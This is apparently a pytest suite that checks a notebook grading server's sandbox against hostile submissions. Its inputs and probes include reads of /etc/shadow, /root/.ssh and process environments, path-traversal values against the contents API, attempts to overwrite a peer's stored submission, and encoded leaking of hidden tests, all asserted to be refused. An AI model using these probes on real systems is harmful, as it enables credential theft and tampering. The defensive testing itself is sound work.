    """Per cell, the staff's view of the grading equals the honest answer's points; the
    engineer sees the same points except the hidden cell's (policy "never"); nothing the
    submission claimed (points, extra cells) shows up."""
    case, staff, mine = corpus["cases"][name], corpus["staff"][name], corpus["mine"][name]
    assert staff["state"] == "graded", staff
    assert points_of(staff) == case.points, (name, staff["feedback"])
    expected_mine = {**case.points, "test_hidden": None}
    assert points_of(mine) == expected_mine, (name, mine["feedback"])
    assert staff["feedback"]["max_score"] == 11 and mine["feedback"]["max_score"] == 11
    assert staff["score"] == sum(case.points.values()), staff
    assert [g["state"] for g in staff["gradings"]] == ["graded"], staff["gradings"]


@pytest.mark.timeout(1200)
def test_the_gateway_still_answers_after_the_batch(lab, corpus):
    admin = lab["users"]["admin"]
    status, body = admin.get("/api/status")
    assert status == 200, body
    assert lab["proc"].poll() is None, "lab serve died"
    # 100 MB of output, 10 GB asked for, forks, floods: none of it was the gateway's memory.
    status_file = pathlib.Path(f"/proc/{lab['proc'].pid}/status").read_text()
    peak_mb = int(re.search(r"VmHWM:\s+(\d+) kB", status_file).group(1)) // 1024
    print(f"\n[gateway] peak RSS over the batch: {peak_mb} MB")
    assert peak_mb < 512, peak_mb
    # The lab keeps grading: one more honest submission after the hostile batch.
    released = corpus["notebooks"]["py-honest-last"]
    again = submit(lab["users"]["ada"], "py", released)
    view = wait_graded(admin, [again], timeout=120)[again]
    assert points_of(view) == PY_FULL, view


PROBE_CASES = ["py-read-the-classroom-and-the-database", "py-list-the-grading-folders",
               "py-open-network-connections", "py-reach-the-gateways-port",
               "py-write-outside-the-scratch-folder"]


@pytest.mark.timeout(1200)
@pytest.mark.parametrize("name", PROBE_CASES)
def test_a_grading_kernel_is_refused_what_is_not_its_own(lab, corpus, name):
    """What the probing answer printed (its feedback, as its submitter sees it): every attempt
    at the classroom, the database, other users' folders, the grading folders, the gateway and
    ports other than the outbound ones is refused, and no marker or token came back."""
    case, mine, staff = corpus["cases"][name], corpus["mine"][name], corpus["staff"][name]
    out = answer_output(lab, staff)
    for label, verdict in case.probes:
        assert re.search(rf"^{re.escape(label)} {verdict}\b", out, re.M), (label, out)
    text = json.dumps(mine) + out
    for marker in (HIDDEN, SOLUTION, PEER, lab["users"]["admin"].token):
        assert marker not in text, (marker, out)
    for rel in case.absent_files:
        path = pathlib.Path(rel) if rel.startswith("/") else lab["data"] / rel
        assert not path.exists(), path
    # The peer's stored submission is as bob sent it.
    status, nb = lab["users"]["bob"].get(f"/api/submissions/{corpus['peer']}/notebook")
    assert status == 200 and PEER in json.dumps(nb) and f"pwned-{RUN}" not in json.dumps(nb)


@pytest.mark.timeout(1200)
def test_what_the_sandbox_grants_a_grading_kernel(lab, corpus):
    """Reported (run with -s): what a grading kernel can list or read outside the data dir.
    Asserted: none of the gateway user's secrets, no /tmp, no other process's environment."""
    out = answer_output(lab, corpus["staff"]["py-survey-what-the-sandbox-grants"])
    print("\n[sandbox survey]\n" + out)
    for p in ("/root/.ssh", "/tmp", "/proc/1/environ", "/etc/shadow"):
        assert re.search(rf"^list {re.escape(p)} DENIED", out, re.M), (p, out)


@pytest.mark.timeout(1200)
def test_the_candle_kernel_reads_nothing_of_the_classroom(lab, corpus):
    out = answer_output(lab, corpus["staff"]["candle-read-the-classroom-and-the-database"])
    assert out.count("read DENIED") == 4 and "read OK" not in out, out
    for marker in (HIDDEN, SOLUTION, PEER):
        assert marker not in out


@pytest.mark.timeout(1200)
def test_what_the_grading_kernels_network_reaches(lab, corpus):
    """Reported, not assumed: an outside address on port 80 (no internet here: refused or
    unreachable or timed out), and what the trap on 127.0.0.1:80 and UDP received."""
    out = answer_output(lab, corpus["staff"]["py-open-network-connections"])
    print("\n[network probe]\n" + out)
    assert re.search(r"^tcp-other-port DENIED PermissionError", out, re.M), out
    assert re.search(r"^tcp-dns-port DENIED PermissionError", out, re.M), out


@pytest.mark.timeout(1200)
def test_a_grading_kernel_has_no_network(lab, corpus):
    out = answer_output(lab, corpus["staff"]["py-open-network-connections"])
    for label in ("tcp-80", "udp"):
        assert re.search(rf"^{label} DENIED", out, re.M), out
    assert f"udp-{RUN}".encode() not in lab["trap"].received


@pytest.mark.timeout(1200)
def test_hidden_tests_cannot_be_sent_out_over_the_network(lab, corpus):
    assert HIDDEN.encode() not in bytes(lab["trap"].received)


@pytest.mark.timeout(1200)
def test_no_process_of_a_grading_is_left_running(lab, corpus):
    """A kernel that forked 150 sleepers: none of them outlives its grading, nor does any
    grading kernel (a process that left the kernel's process group is the next test)."""
    left = {pid: cwd for pid, cwd in corpus["leftovers"].items() if not cwd.split(" ")[0].endswith("/escaped")}
    assert left == {}, left


@pytest.mark.timeout(1200)
def test_a_process_that_leaves_the_kernels_group_does_not_outlive_the_grading(lab, corpus):
    """A process that called setsid() and whose parent exited (py-escape-the-process-group): the
    kernel is a child subreaper, so it stays in the kernel's tree, and the gateway kills it
    with the kernel (launch/src/local/tree.rs, reaper.rs)."""
    assert corpus["leftovers"] == {}, corpus["leftovers"]


@pytest.mark.timeout(1200)
def test_a_grading_kernel_cannot_allocate_10_gb(lab, corpus):
    """The policy's `memory_mb` (2048 by default) is each grading process's RLIMIT_DATA: the
    10 GiB mapping is refused in the cell (ENOMEM), which fails, not the kernel or the lab."""
    out = answer_output(lab, corpus["staff"]["py-allocate-10-gb"])
    print("\n[allocation probe] " + out)
    assert re.search(r"^alloc DENIED", out, re.M), out


@pytest.mark.timeout(1200)
@pytest.mark.parametrize("name", ["py-mmap-shared-10-gb", "py-shared-memory-10-gb", "py-memfd-10-gb"])
def test_a_grading_kernel_gets_no_shared_memory(lab, corpus, name):
    """Shared memory, which RLIMIT_DATA does not count (Python's default `mmap`, a
    `multiprocessing.shared_memory` segment in /dev/shm, a memfd): a grading kernel's sandbox
    refuses it (seccomp: shared anonymous mappings and memfd_create; Landlock: no /dev/shm), so
    10 GiB of it fails in the cell, as a private allocation does."""
    out = answer_output(lab, corpus["staff"][name])
    print(f"\n[{name}] " + out)
    assert re.search(r"^alloc DENIED", out, re.M), out


@pytest.mark.timeout(1200)
def test_a_flood_of_output_is_cut_and_costs_nothing_else(lab, corpus):
    """100 MB printed: what the grading keeps is within the assignment's output limit (1 MiB by
    default), and what the engineer is shown within the feedback's 20 KiB."""
    out = answer_output(lab, corpus["staff"]["py-print-100-mb"])
    print(f"\n[flood] kept {len(out)} bytes, ending {out[-200:]!r}")
    assert len(out) <= 1024 * 1024 + 1024, len(out)
    for view in (corpus["mine"]["py-print-100-mb"], corpus["staff"]["py-print-100-mb"]):
        assert all(len(c["output"]) <= 21 * 1024 for c in view["feedback"]["cells"])


# ---------------------------------------------------------------- modifying a submission

@pytest.mark.timeout(1200)
def test_a_submission_cannot_be_changed_after_it_is_submitted(lab, corpus):
    """Through the API (there is no route that changes one) and from the submitter's own
    kernel (DATA/classroom is outside its folder): the stored notebook stays as sent."""
    eve, admin = lab["users"]["eve"], lab["users"]["admin"]
    sid = corpus["ids"]["py-honest-wrong"]  # ada's
    mine = corpus["ids"]["py-delete-test-cells"]  # eve's own
    before = {i: admin.get(f"/api/submissions/{i}/notebook")[1] for i in (sid, mine)}
    assert "answer = 41" in json.dumps(before[sid]) and "answer = 41" in json.dumps(before[mine])
    forged = with_answer(corpus["notebooks"]["py-honest-last"], "answer = 42")
    for who, target in ((eve, mine), (eve, sid)):
        for method in ("PUT", "PATCH", "DELETE", "POST"):
            for path in (f"/api/submissions/{target}", f"/api/submissions/{target}/notebook"):
                status, body = who.call(method, path, {"notebook": forged})
                assert status in (404, 405), (method, path, status, body)
    # The contents API cannot reach the classroom either.
    for path in (f"../classroom/submissions/{mine}.ipynb", f"..%2Fclassroom%2Fsubmissions%2F{mine}.ipynb",
                 f"/../../classroom/submissions/{mine}.ipynb"):
        status, body = eve.call("PUT", f"/api/contents/{path}",
                                {"type": "notebook", "format": "json", "content": forged})
        assert status in (400, 403, 404), (path, status, body)

    # From eve's own kernel.
    status, model = eve.call("POST", "/api/kernels", {"name": "python3"})
    assert status == 201, model
    url = (f"ws://127.0.0.1:{lab['port']}/api/kernels/{model['id']}/channels"
           f"?session_id=s&token={eve.token}")
    data = lab["data"]
    out = stream_of_cell(url, PY_PROBE + f"""
def write(path):
    with open(path, 'w') as f:
        f.write('{{}}')
attempt('overwrite-own', lambda: write({str(data / 'classroom' / 'submissions' / f'{mine}.ipynb')!r}))
attempt('overwrite-peer', lambda: write({str(data / 'classroom' / 'submissions' / f'{sid}.ipynb')!r}))
attempt('read-own', lambda: read({str(data / 'classroom' / 'submissions' / f'{mine}.ipynb')!r}))
attempt('list', lambda: os.listdir({str(data / 'classroom' / 'submissions')!r}))
attempt('rename', lambda: os.rename({str(data / 'classroom' / 'submissions' / f'{mine}.ipynb')!r}, 'x'))
attempt('lab-db', lambda: read({str(data / 'lab.db')!r}))
attempt('graded', lambda: os.listdir({str(data / 'classroom' / 'graded')!r}))
attempt('grading-scratch', lambda: os.listdir({str(data / 'users')!r}))
""")
    for label in ("overwrite-own", "overwrite-peer", "read-own", "list", "rename", "lab-db", "graded",
                  "grading-scratch"):
        assert re.search(rf"^{label} DENIED", out, re.M), (label, out)
    assert eve.call("DELETE", f"/api/kernels/{model['id']}")[0] == 204
    after = {i: admin.get(f"/api/submissions/{i}/notebook")[1] for i in (sid, mine)}
    assert after == before


# ---------------------------------------------------------------- isolation

@pytest.mark.timeout(1200)
def test_another_engineer_and_the_grading_api_are_out_of_reach(lab, corpus):
    """Another engineer gets the 404 of a submission that does not exist, on the submission,
    its notebook, its feedback and grades; an engineer reaches neither the gradebook nor the
    grading routes, even for their own submission."""
    ada, bob, eve = lab["users"]["ada"], lab["users"]["bob"], lab["users"]["eve"]
    adas = corpus["ids"]["py-honest-first"]
    missing = str(uuid.uuid4())
    for who in (bob, eve):
        for path in (f"/api/submissions/{adas}", f"/api/submissions/{adas}/notebook"):
            status, body = who.get(path)
            assert status == 404, (who.name, path, body)
            other, body2 = who.get(path.replace(adas, missing))
            assert (other, json.dumps(body2).replace(missing, adas)) == (status, json.dumps(body)), \
                "a probe tells ids apart"
        status, listed = who.get("/api/courses/sec/assignments/py/submissions?user=ada")
        assert status == 200 and all(s["user"] == who.name for s in listed), listed
        assert adas not in json.dumps(listed)
        status, body = who.call("PUT", f"/api/submissions/{adas}/grades/test_answer",
                                {"points": 2, "comment": "mine now"})
        assert status == 404, body
    a = "/api/courses/sec/assignments/py"
    for who, own in ((ada, adas), (eve, corpus["ids"]["py-delete-test-cells"])):
        for method, path, body in (
            ("GET", f"{a}/gradebook", None),
            ("GET", f"{a}/gradebook?format=csv", None),
            ("GET", f"{a}/source", None),
            ("POST", f"{a}/grade", {}),
            ("POST", f"{a}/grade", {"submission": own}),
            ("PUT", f"/api/submissions/{own}/grades/test_answer", {"points": 2, "comment": ""}),
            ("PUT", f"{a}/extensions/{who.name}", {"hours": 100}),
            ("PATCH", a, {"published": True}),
            ("PATCH", a, {"policy": {"hidden": "after_due"}}),
            ("PUT", a, {"notebook": py_source()}),
        ):
            status, got = who.call(method, path, body)
            assert status in (403, 404), (who.name, method, path, status, got)
    # Nothing changed: no regrade queued, no manual grade, the policy is still "never".
    admin = lab["users"]["admin"]
    for name in ("py-honest-first", "py-delete-test-cells"):
        _, view = admin.get(f"/api/submissions/{corpus['ids'][name]}")
        assert len(view["gradings"]) == 1 and view["manual"] == [], view
    _, assignment = admin.get(a)
    assert assignment["policy"]["hidden"] == "never" and assignment["published"] is None, assignment


# ---------------------------------------------------------------- no leaks

def decoded_leaks(text):
    """The hidden marker in the encodings the hostile hook prints (base64, reversed, hex)."""
    found = []
    for m in re.finditer(r"B64:([A-Za-z0-9+/=]+)", text):
        try:
            if HIDDEN in base64.b64decode(m.group(1)).decode(errors="replace"):
                found.append("base64")
        except ValueError:
            pass
    if HIDDEN[::-1] in text:
        found.append("reversed")
    if HIDDEN.encode().hex() in text:
        found.append("hex")
    return found


def everything_an_engineer_can_fetch(lab, corpus, client):
    """Every route an engineer reads, for everything they can see, once more."""
    paths = ["/api/assignments", "/api/courses/sec/assignments", "/api/me", "/api/status"]
    for a in ("py", "rhai"):
        paths += [f"/api/courses/sec/assignments/{a}", f"/api/courses/sec/assignments/{a}/submissions"]
    for name, sid in corpus["ids"].items():
        if corpus["cases"][name].who == client.name:
            paths += [f"/api/submissions/{sid}", f"/api/submissions/{sid}/notebook"]

    def contents(path):
        status, model = client.get(f"/api/contents/{path}?content=1")
        if status != 200:
            return
        if model["type"] == "directory":
            for entry in model["content"]:
                contents(entry["path"])

    for p in paths:
        client.get(p)
    contents("")


@pytest.mark.timeout(1200)
def test_no_marker_of_the_hidden_tests_or_solutions_reaches_an_engineer_a_file_or_a_log(lab, corpus):
    """After grading with hidden results "never": no response any engineer got (the whole
    module's, and every readable route once more), no file under DATA/users (every user's
    folder, grading scratch folders included), and nothing lab serve wrote to stdout or stderr
    holds a marker planted in the hidden tests and the solutions, in clear or in the encodings
    a hostile answer printed them in."""
    engineers = [lab["users"][n] for n in ("ada", "bob", "eve")]
    for client in engineers:
        everything_an_engineer_can_fetch(lab, corpus, client)
    leaks = []
    for client in engineers:
        for raw in client.seen:
            text = raw.decode(errors="replace")
            for marker in MARKERS:
                if marker in text:
                    leaks.append((client.name, marker, text[:300]))
            for how in decoded_leaks(text):
                leaks.append((client.name, f"hidden marker, {how}", text[:300]))
    for path in (lab["data"] / "users").rglob("*"):
        if path.is_file():
            raw = path.read_bytes()
            for marker in MARKERS:
                if marker.encode() in raw:
                    leaks.append((str(path), marker, ""))
    for log in ("stdout.log", "stderr.log"):
        text = (lab["logs"] / log).read_text(errors="replace")
        for marker in MARKERS:
            if marker in text:
                leaks.append((log, marker, ""))
    assert leaks == [], leaks
    # The attempt was real: the staff, who may read hidden tests, see the hook's encoded copy
    # of the hidden cell in the public test that ran after it.
    staff_view = output_of(corpus["staff"]["py-print-later-cells-encoded"], "test_after")
    assert decoded_leaks(staff_view), staff_view
    # The engineer gets the points of a cell that ran after hidden tests, not its output.
    mine = corpus["mine"]["py-print-later-cells-encoded"]
    assert output_of(mine, "test_after").startswith("[output withheld"), mine["feedback"]
    assert "B64:" in output_of(mine, "test_answer"), mine["feedback"]


# ---------------------------------------------------------------- reliability

def small_candle_source():
    return {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": "academy-candle", "display_name": "Candle",
                                    "language": "rhai"}},
        "cells": [
            answer_cell("// BEGIN SOLUTION\nlet answer = 42;\n// END SOLUTION"),
            grader_test("test_answer", 2, 'if answer != 42 { throw "answer should be 42"; }'),
            grader_test("test_partial", 3, "if answer == 42 { 2.5 } else { 0.5 }"),
        ],
    }


@pytest.mark.timeout(1500)
def test_kill_9_while_grading_50_submissions_grades_each_exactly_once(tmp_path):
    """`kill -9` of lab serve while it grades 50 small academy-candle submissions, then a
    restart on the same data dir: every submission ends graded, with exactly one grading row,
    and its honest score; no grading kernel of either gateway is left running."""
    data, logs = tmp_path / "data", tmp_path / "logs"
    port = free_port()
    proc, admin_token = serve(data, port, logs)
    base = f"http://127.0.0.1:{port}"
    try:
        tess = Client(base, add_user(data, "tess", "trainer"), "tess")
        engineers = [Client(base, add_user(data, f"eng{i}", "engineer"), f"eng{i}") for i in range(5)]
        path = "/api/courses/rel/assignments/hw"
        status, body = tess.call("PUT", path, {"notebook": small_candle_source(),
                                               "policy": {"cell_timeout_s": 10, "total_timeout_s": 60}})
        assert status == 200, body
        assert tess.call("PATCH", path, {"released": True})[0] == 200
        status, released = tess.get(f"{path}/source")
        assert status == 200, released
        right = with_answer(released, "let answer = 42;")
        wrong = with_answer(released, "let answer = 7;")
        expected = {}
        for n in range(50):
            who = engineers[n % 5]
            good = n % 3 != 0
            status, sub = who.call("POST", f"{path}/submissions", {"notebook": right if good else wrong})
            assert status == 201, sub
            expected[sub["id"]] = ({"test_answer": 2, "test_partial": 2.5} if good
                                   else {"test_answer": 0, "test_partial": 0.5})
        admin = Client(base, admin_token, "admin")

        def mid_grading():
            states = [admin.get(f"/api/submissions/{i}")[1]["state"] for i in expected]
            return states.count("graded") >= 3 and "grading" in states

        wait_until("some gradings done and some running", 300, mid_grading, interval=0.05)
        proc.kill()
        proc.wait(timeout=30)
        orphans = grading_processes(data)
        print(f"\n[kill -9] grading kernels (and children) left by the killed gateway: {len(orphans)}")
        # Kernels outlive a killed gateway; the grading ones must not outlive its restart.
        proc, admin_token = serve(data, port, logs)
        admin = Client(base, admin_token, "admin")
        views = wait_graded(admin, list(expected), timeout=900)
        for sid, want in expected.items():
            view = views[sid]
            assert view["state"] == "graded", view
            assert [g["state"] for g in view["gradings"]] == ["graded"], (sid, view["gradings"])
            assert points_of(view) == want, (sid, view["feedback"])
        retried = [v["gradings"][0]["attempts"] for v in views.values() if v["gradings"][0]["attempts"] > 1]
        print(f"[kill -9] gradings taken again after the restart: {len(retried)}")
        assert retried, "the kill came when no grading was running"
        wait_until("no grading kernel left", 60, lambda: not grading_processes(data))
        leftover = [f for f in (data / "runtime").glob("kernel-*.json")]
        assert leftover == [], leftover
        assert admin.get("/api/status")[0] == 200
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        kill_pids(grading_processes(data))
